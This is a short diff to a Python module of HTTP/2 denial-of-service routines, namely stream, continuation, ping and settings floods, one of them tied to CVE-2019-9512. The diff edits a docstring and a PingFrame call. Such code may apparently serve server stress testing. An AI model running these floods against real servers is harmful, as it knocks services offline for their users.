@@ -132,7 +132,7 @@ class Attack:
 
 
 def many_streams(attack: Attack) -> None:
-    """Open 5,000 streams on one connection, whatever the server allows; the requests of these calls never come."""
+    """Open 5,000 streams on one connection, more than the server allows; the requests of these calls never come."""
 
     def act(connection: Connection) -> None:
         for _ in range(100):
@@ -221,7 +221,7 @@ def continuation_flood(attack: Attack) -> None:
 
 def ping_flood(attack: Attack) -> None:
     """Send PING, and do not read the answers (CVE-2019-9512)."""
-    attack.flood("pings", PingFrame(opaque_data=b"12345678").serialize() * 200, 200, reads=False)
+    attack.flood("pings", PingFrame(0, b"12345678").serialize() * 200, 200, reads=False)
 
 
 def settings_flood(attack: Attack) -> None:
